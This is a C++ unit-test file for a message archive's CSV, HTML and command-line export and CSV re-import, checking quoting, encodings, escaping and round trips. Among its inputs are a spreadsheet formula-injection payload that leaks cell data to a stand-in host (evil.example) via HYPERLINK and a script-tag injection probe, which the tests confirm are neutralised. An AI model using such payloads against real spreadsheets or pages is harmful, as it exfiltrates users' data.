// SPDX-License-Identifier: GPL-3.0-or-later
#include <gtest/gtest.h>

#include <cstdio>
#include <filesystem>
#include <memory>
#include <random>
#include <set>
#include <sstream>

#include "Lang/DateTimeFormat.h"
#include "Lang/TimeValue.h"
#include "Formats/CsvExport.h"
#include "Formats/CsvExportImport.h"
#include "MBVars/DataFile.h"
#include "Formats/ExportScope.h"
#include "Formats/HtmlExport.h"
#include "MBVars/Import.h"
#include "OFuncs/TextOps.h"
#include "cli/ExportCommand.h"
#include "support/FileTestHelpers.h"
#include "support/LiteralReference.h"
#include "support/RandomStores.h"
#include "support/StoreBuilder.h"

namespace {
using Row = std::vector<std::string>;
constexpr std::uint16_t Sent = MsgSms | MsgWordCodes | MsgSent, Received = MsgSms | MsgWordCodes | MsgReceived;

// Messages that test a spreadsheet's and a browser's reading: separators, quotes, line
// breaks, markup, UTF-8, Windows-1252 bytes (also in a name), the display form's letter
// pairs and an emoji.
void FillAwkwardStore(MsgStore& S) {
    AddMessage(S, "2024.03.15 18:07", "+15555550100", "Plain words", Sent, "Ada Ashgrove");
    AddMessage(S, "2024.03.15 18:09", "+15555550100", "Commas, \"quotes\", and ;semicolons;", Received, "Ada Ashgrove");
    AddMessage(S, "2024.03.16 07:00", "+15555550101", "Two\r\nlines\nand a third\rone", Sent);
    AddMessage(S, "2024.03.16 07:01", "+15555550101", "<script>alert('x')</script> & <b>bold</b>", Received);
    AddMessage(S, "2024.03.17 23:59", "+15555550102", "Gr\xC3\xBC\xC3\x9F" "e \xF0\x9F\x98\x80 \xE6\x97\xA5", Sent,
               "Zo\xC3\xAB");
    AddMessage(S, "2024.03.18 00:00", "+15555550103", "Caf\xE9 \x80 5 \x93ok\x94 \xC3\xA4 ", Received, "Ren\xE9");
    AddMessage(S, "2024.3.1 9:5", "+15555550103", "A time of another form", Received);
}

// The rows a standard parser should read: the grid's fields through the plain reference.
std::vector<Row> ExpectedRows(const MsgStore& S, const std::vector<std::int32_t>& rows) {
    std::vector<Row> out{{"Time", "Phone", "Name", "Direction", "Message"}};
    for (const std::int32_t n : rows) {
        const XMsgRecType& m = S.Messages[static_cast<std::size_t>(n)];
        const std::string t = ExportTime(m.Time.view());
        out.push_back({t, Literal::Shown(m.Phone.view()), Literal::Shown(m.Name.view()),
                       (m.Flags & MsgSent) ? "Sent" : "Received", Literal::ShownMessage(m.Text)});
    }
    return out;
}

std::string FromHex(const std::string& hex) {
    std::string out;
    for (std::size_t i = 0; i + 1 < hex.size(); i += 2) out.push_back(static_cast<char>(std::stoi(hex.substr(i, 2), nullptr, 16)));
    return out;
}

// The rows Python's csv module or html.parser reads from the file (export_rows.py); for
// HTML `outside` gets the count of scripts and outside resources.
std::vector<Row> ParsedByPython(const std::string& kind, const std::string& path, int* outside = nullptr) {
    const std::string script =
        (std::filesystem::path(KESTRO_TEST_DATA).parent_path() / "support" / "export_rows.py").string();
    const std::string command = "python3 '" + script + "' " + kind + " '" + path + "'";
    std::unique_ptr<FILE, int (*)(FILE*)> pipe(::popen(command.c_str(), "r"), ::pclose);
    std::string text;
    char buf[4096];
    while (std::size_t n = std::fread(buf, 1, sizeof buf, pipe.get())) text.append(buf, n);
    std::istringstream lines(text);
    std::string line;
    if (outside && std::getline(lines, line)) *outside = std::stoi(line);
    std::vector<Row> rows;
    while (std::getline(lines, line)) {
        Row row;
        std::istringstream fields(line);
        std::string field;
        while (std::getline(fields, field, '\t')) row.push_back(FromHex(field));
        if (!line.empty() && line.back() == '\t') row.emplace_back();
        rows.push_back(row);
    }
    return rows;
}

std::vector<std::int32_t> AllRows(const MsgStore& S) {
    std::vector<std::int32_t> rows;
    for (std::int32_t n = S.MessageCount; n >= 1; --n) rows.push_back(n);  // any order, not the store's
    return rows;
}
}  // namespace

TEST(Export, TimesAndFileTypes) {
    // A time of the stored form directly, any other as the grid's format reads it.
    const LocaleInfo english = LocaleInfo::English();
    for (const char* stored : {"2024.03.15 18:07", "2007.12.31 23:59", "2024.3.1 9:5", "2024.03.15", "", "20x4.03.15 18:07",
                               "2024.03.15 18:07:59"})
        EXPECT_EQ(ExportTime(stored), FormatDateTime("yyyy-mm-dd hh:mm", TimeValue(stored), english)) << stored;
    EXPECT_EQ(ExportFormatOfPath("a/b.CSV"), ExportFormat::Csv);
    EXPECT_EQ(ExportFormatOfPath("page.htm"), ExportFormat::Html);
    EXPECT_EQ(ExportFormatOfPath("x.html"), ExportFormat::Html);
    EXPECT_EQ(ExportFormatOfPath("x.Pdf"), ExportFormat::Pdf);
    EXPECT_EQ(ExportFormatOfPath("x.kst"), std::nullopt);
    EXPECT_EQ(ExportFormatOfPath("csv"), std::nullopt);
}

TEST(Export, CsvReadByAStandardParserGivesTheGridRows) {
    MsgStore S;
    FillAwkwardStore(S);
    const std::vector<std::int32_t> rows = AllRows(S);
    const std::string csv = CsvExport(S, rows);
    EXPECT_TRUE(csv.starts_with("\xEF\xBB\xBFTime,Phone,Name,Direction,Message\r\n"));
    // Every line ends in CR LF; the text's own line breaks stay inside their quotes.
    EXPECT_NE(csv.find("2024-03-16 07:00,+15555550101,,Sent,\"Two\r\nlines\nand a third\rone\"\r\n"), std::string::npos);
    EXPECT_NE(csv.find(",\"Commas, \"\"quotes\"\", and ;semicolons;\"\r\n"), std::string::npos);
    TempDir dir;
    const std::string path = PathIn(dir, "out.csv");
    WriteExportFile(path, csv);
    EXPECT_EQ(ParsedByPython("csv", path), ExpectedRows(S, rows));
}

// The CSV export writes what its plain form writes: each cell shown, guarded, then quoted,
// one after the other, for cells made of every piece that matters to any of those steps.
TEST(Export, TheCsvExportWritesWhatThePlainFormWrites) {
    const auto plain = [](const MsgStore& S, ExportRows rows) {
        std::string out = std::string(Utf8ByteOrderMark) + std::string(CsvExportHeader) + "\r\n", room;
        for (const std::int32_t n : rows) {
            const XMsgRecType& m = S.Messages[static_cast<std::size_t>(n)];
            out += ExportTime(m.Time.view()) + ",";
            AppendCsvField(out, GuardCsvCell(Literal::Shown(m.Phone.view()), room, true));
            out += ',';
            AppendCsvField(out, GuardCsvCell(Literal::Shown(m.Name.view()), room));
            out += "," + std::string(ExportDirection(m)) + ",";
            AppendCsvField(out, GuardCsvCell(Literal::ShownMessage(m.Text), room));
            out += "\r\n";
        }
        return out;
    };
    const std::vector<std::string> pieces = {",", "\"", "\r", "\n", "=", "+", "-", "@", "'", "\t", "a", "5", " ",
                                             "(", "\xE9", "\xC3\xA4", "\xC3", "\x80", "\xF0\x9F\x98\x80", "plain words"};
    const std::vector<std::string> times = {"2024.03.15 18:07", "2024.3.1 9:5", "", "2024.03.15 18:07:59"};
    std::mt19937 rng(11);
    const auto cell = [&](std::size_t most) {
        std::string out;
        for (std::size_t k = rng() % 12; k > 0; --k) out += pieces[rng() % pieces.size()];
        return out.substr(0, most);
    };
    MsgStore S;
    for (int i = 0; i < 3000; ++i)
        AddMessage(S, times[rng() % times.size()], cell(30), cell(200), rng() % 2 ? Sent : Received, cell(30));
    const std::vector<std::int32_t> rows = AllRows(S);
    EXPECT_EQ(CsvExport(S, rows), plain(S, rows));
}

TEST(Export, HtmlReadByAStandardParserGivesTheGridRowsAndNoScript) {
    MsgStore S;
    FillAwkwardStore(S);
    S.Messages[1].Color = 0x0000FF;
    const std::vector<std::int32_t> rows = AllRows(S);
    ExportLook look;
    look.Title = "Messages with <Ada> & \"Co\"";
    look.Source = "family.kst";
    const std::string html = HtmlExport(S, rows, look);
    EXPECT_NE(html.find("<meta charset=\"utf-8\">"), std::string::npos);
    EXPECT_NE(html.find("<h1>Messages with &lt;Ada&gt; &amp; &quot;Co&quot;</h1>"), std::string::npos);
    EXPECT_NE(html.find("tr.sent{background:#a6caf0;}"), std::string::npos);  // the sent colour, 0x00BBGGRR
    EXPECT_EQ(html.find("#ff0000"), std::string::npos);  // contact colours only in their colour mode
    look.ColorMode = 2;
    EXPECT_NE(HtmlExport(S, rows, look).find("style=\"background:#ff0000\""), std::string::npos);
    TempDir dir;
    const std::string path = PathIn(dir, "out.html");
    WriteExportFile(path, html);
    int outside = -1;
    std::vector<Row> parsed = ParsedByPython("html", path, &outside);
    EXPECT_EQ(outside, 0);
    // A line break in any form shows as one <br>.
    std::vector<Row> expected = ExpectedRows(S, rows);
    for (Row& row : expected)
        for (std::string& field : row) field = ReplaceAll("\r", "\n", ReplaceAll("\r\n", "\n", field));
    EXPECT_EQ(parsed, expected);
}

TEST(Export, TheCsvExportImportsBackToTheSameMessages) {
    for (const unsigned seed : {1u, 2u, 3u}) {
        MsgStore S;
        FillAwkwardStore(S);
        FillTieRichStore(S, 300, seed);
        // Times as Kestro stores them (a cut one reads back as the time it showed, which
        // then counts as another message), and no display-form letter pair in a
        // Windows-1252 text (it reads back as the single letter's byte).
        for (std::int32_t n = 1; n <= S.MessageCount; ++n) {
            if (S.Messages[n].Time.size() != 16) S.Messages[n].Time = "2020.01.01 00:00";
            S.Messages[n].Text = ReplaceAll("\xC3\xA4", "\xE4", S.Messages[n].Text);
        }
        const std::vector<std::int32_t> rows = AllRows(S);
        TempDir dir;
        const std::string path = PathIn(dir, "round.csv");
        WriteExportFile(path, CsvExport(S, rows));

        MsgStore back;
        ASSERT_EQ(ImportCsvFile(back, path), 0);
        std::vector<std::int32_t> backRows;
        for (std::int32_t n = 1; n <= back.MessageCount; ++n) backRows.push_back(n);
        // The file's rows, each once: the import keeps the first of equal time, phone,
        // direction and text.
        std::vector<Row> expected;
        std::set<Row> seen;
        for (const Row& row : ExpectedRows(S, rows))
            if (seen.insert({row[0], row[1], row[3], row[4]}).second) expected.push_back(row);
        EXPECT_EQ(ExpectedRows(back, backRows), expected) << "seed " << seed;
        // Imported into the collection it came from, it adds nothing.
        const std::int32_t before = S.MessageCount;
        ASSERT_EQ(ImportCsvFile(S, path), 0);
        EXPECT_EQ(S.MessageCount, before) << "seed " << seed;
    }
}

TEST(Export, TheReaderTakesOnlyItsOwnHeaderAndPassesOverBadLines) {
    const std::pair<std::string, bool> heads[] = {
        {"\xEF\xBB\xBFTime,Phone,Name,Direction,Message\r\n", true},
        {"Time,Phone,Name,Direction,Message\n", true},
        {"Time,Phone,Name,Direction,Message,Size\r\n", false},
        {"\"Time\",\"Phone\"\r\n", false},
        {"", false},
    };
    for (const auto& [head, own] : heads) EXPECT_EQ(IsCsvExportStart(head), own) << head;
    MsgStore S;
    const std::string file = std::string(CsvExportHeader) + "\n"
        "2024-01-02 03:04,+1555,Ann,Sent,fine\r\n"
        "2024-01-02 03:04:59,+1555,,Received,\"seconds, dropped\"\r\n"
        "02/01/2024 03:04,+1555,,Sent,other time form\r\n"
        "2024-01-02 03:04,+1555,,Outgoing,unknown direction\r\n"
        "2024-01-02 03:04,,,Sent,no phone\r\n"
        "2024-01-02 03:04,+1555,,Sent\r\n"
        "\r\n"
        "2024-01-02 03:05,+1555,,Sent,\"unclosed quote\r\nruns to the end";
    EXPECT_EQ(ImportCsvExportBytes(S, file), 0);
    ASSERT_EQ(S.MessageCount, 3);
    EXPECT_EQ(S.Messages[1].Time, "2024.01.02 03:04");
    EXPECT_EQ(S.Messages[1].Name, "Ann");
    EXPECT_EQ(S.Messages[1].Flags, Sent);
    EXPECT_EQ(S.Messages[2].Text, "seconds, dropped");
    EXPECT_EQ(S.Messages[2].Flags, Received);
    EXPECT_EQ(S.Messages[3].Text, "unclosed quote\r\nruns to the end");
}

TEST(Export, TheCommandLinePicksAsTheViewsDo) {
    MsgStore S;
    AddMessage(S, "2024.01.01 10:00", "+15555550100", "Hello Ada", Sent, "Ada Ashgrove");
    AddMessage(S, "2024.01.02 10:00", "+15555550100", "HELLO back", Received, "Ada Ashgrove");
    AddMessage(S, "2024.01.03 10:00", "+15555550199", "hello from Bo", Received);
    AddMessage(S, "2024.01.04 10:00", "+15555550199", "bye", Sent);
    TempDir dir;
    const std::string kst = PathIn(dir, "family.kst");
    ASSERT_EQ(WriteDataFile(S, kst), 0);
    struct Case {
        std::vector<std::string> Options;
        std::vector<std::string> Texts;  // newest first
    };
    const Case cases[] = {
        {{}, {"bye", "hello from Bo", "HELLO back", "Hello Ada"}},
        {{"--sent"}, {"bye", "Hello Ada"}},
        {{"--received", "--search", "hello"}, {"hello from Bo", "HELLO back"}},
        {{"--contact", "+15555550100"}, {"HELLO back", "Hello Ada"}},
        {{"--contact", "+15555550100", "--search", "ADA", "--sent"}, {"Hello Ada"}},
    };
    for (const Case& c : cases) {
        std::vector<std::string> args{kst, "--format", "csv"};
        args.insert(args.end(), c.Options.begin(), c.Options.end());
        std::ostringstream out, err;
        ASSERT_EQ(RunExportCommand(args, out, err), 0) << err.str();
        const std::string path = PathIn(dir, "out.csv");
        WriteFileBytes(path, out.str());
        std::vector<std::string> texts;
        for (const Row& row : ParsedByPython("csv", path)) texts.push_back(row.back());
        texts.erase(texts.begin());  // the header
        EXPECT_EQ(texts, c.Texts) << testing::PrintToString(c.Options);
    }
    // HTML into a file, titled after the contact's name.
    std::ostringstream out, err;
    const std::string html = PathIn(dir, "ada.html");
    ASSERT_EQ(RunExportCommand({kst, "--format", "html", "--contact", "+15555550100", "-o", html}, out, err), 0);
    EXPECT_NE(TempDir::Read(html).find("<title>Messages with Ada Ashgrove - family.kst</title>"), std::string::npos);
    EXPECT_EQ(out.str(), "");
    // Refusals: a bad format, both directions, a missing file, a folder to write to.
    const std::vector<std::string> refused[] = {{kst, "--format", "pdf"}, {kst, "--format", "csv", "--sent", "--received"},
                                                {kst}, {"--format", "csv"}};
    for (const auto& args : refused) EXPECT_EQ(RunExportCommand(args, out, err), 2) << testing::PrintToString(args);
    EXPECT_NE(err.str().find("--format pdf needs a kestro-cli built with Qt"), std::string::npos) << err.str();
    // PDF pages come from the program that paints them, with the rows and the look picked here.
    std::vector<std::int32_t> painted;
    const PdfMaker pdf = [&](const MsgStore&, ExportRows rows, const ExportLook& look) {
        painted.assign(rows.begin(), rows.end());
        return "%PDF " + look.Title + " - " + look.Source;
    };
    std::ostringstream pdfOut, pdfErr;
    ASSERT_EQ(RunExportCommand({kst, "--format", "pdf", "--sent"}, pdfOut, pdfErr, pdf), 0) << pdfErr.str();
    EXPECT_EQ(pdfOut.str(), "%PDF Sent messages - family.kst");
    EXPECT_FALSE(painted.empty());
    std::ostringstream err2;
    EXPECT_EQ(RunExportCommand({PathIn(dir, "none.kst"), "--format", "csv"}, out, err2), 1);
    EXPECT_NE(err2.str().find("none.kst: No such file or directory"), std::string::npos);
    std::ostringstream err3;
    EXPECT_EQ(RunExportCommand({kst, "--format", "csv", "-o", dir.Path().string()}, out, err3), 1);
    EXPECT_NE(err3.str().find("Cannot write \"" + dir.Path().string() + "\": "), std::string::npos) << err3.str();
}

// A cell a spreadsheet would run as a formula gets one apostrophe before it; the reader of
// Kestro's own CSV removes exactly that one, for every cell (random ones over the letters
// that matter, apostrophes included) and through a whole export.
TEST(Export, FormulaCellsAreGuardedAndReadBackExactly) {
    static constexpr std::string_view Letters = "=+-@\t\r'a1 (),\"";
    std::mt19937 rng(7);
    std::string room;
    for (int i = 0; i < 20000; ++i) {
        std::string cell;
        for (int n = std::uniform_int_distribution<int>(0, 5)(rng); n > 0; --n)
            cell += Letters[std::uniform_int_distribution<std::size_t>(0, Letters.size() - 1)(rng)];
        for (const bool phone : {false, true}) {
            const std::string guarded(GuardCsvCell(cell, room, phone));
            EXPECT_EQ(UnguardCsvCell(guarded), cell) << cell;
            const std::size_t first = guarded.find_first_not_of('\'');
            const bool plainNumber = phone && cell.find_first_not_of("+0123456789 -()") == std::string::npos;
            if (first == 0 && !plainNumber) {
                EXPECT_EQ(std::string_view("=+-@\t\r").find(guarded[0]), std::string_view::npos) << cell;
            }
            if (plainNumber) {
                EXPECT_EQ(guarded, cell);
            }
        }
    }

    MsgStore S;
    AddMessage(S, "2024.03.15 18:07", "+1 (555) 555-0100", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", Received,
               "@SUM(A1)");
    AddMessage(S, "2024.03.15 18:08", "=1+1", "-2", Sent, "'=quoted");
    AddMessage(S, "2024.03.15 18:09", "+15555550101", "'plain", Sent, "+Ada");
    const std::string csv = CsvExport(S, AllRows(S));
    EXPECT_NE(csv.find("+1 (555) 555-0100,'@SUM(A1),Received,\"'=HYPERLINK("), std::string::npos) << csv;
    EXPECT_NE(csv.find(",'=1+1,''=quoted,Sent,'-2\r\n"), std::string::npos) << csv;
    EXPECT_NE(csv.find(",+15555550101,'+Ada,Sent,'plain\r\n"), std::string::npos) << csv;
    MsgStore back;
    ImportCsvExportBytes(back, csv);
    const auto cells = [](const MsgStore& T) {
        std::set<std::vector<std::string>> all;
        for (std::int32_t n = 1; n <= T.MessageCount; ++n)
            all.insert({std::string(T.Messages[n].Phone.view()), std::string(T.Messages[n].Name.view()), T.Messages[n].Text});
        return all;
    };
    EXPECT_EQ(cells(back), cells(S));
}
